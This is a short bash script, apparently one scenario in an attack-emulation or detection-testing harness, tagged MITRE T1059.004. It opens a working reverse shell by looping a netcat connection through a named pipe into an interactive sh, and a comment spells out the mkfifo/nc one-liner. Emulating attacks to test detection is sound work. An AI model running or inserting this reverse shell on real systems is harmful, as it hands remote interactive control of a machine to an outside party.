#!/usr/bin/env bash
# Reverse shell: OpenBSD netcat has no -e, so a named pipe loops the socket back into sh -i:
# `mkfifo f; cat f | sh -i 2>&1 | nc PEER PORT > f`.
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-mkfifo-nc T1059.004
scn_require nc.openbsd mkfifo
scn_attacker_listen 4447
fifo="$SCN_WORK/.f"
mkfifo "$fifo"
bash -c 'cat "$1" | /bin/sh -i 2>&1 | nc.openbsd -q 1 "$2" "$3" > "$1"' _ "$fifo" "$SCN_PEER" "$SCN_PORT" 2>/dev/null &
scn_track $!
scn_shell_finish
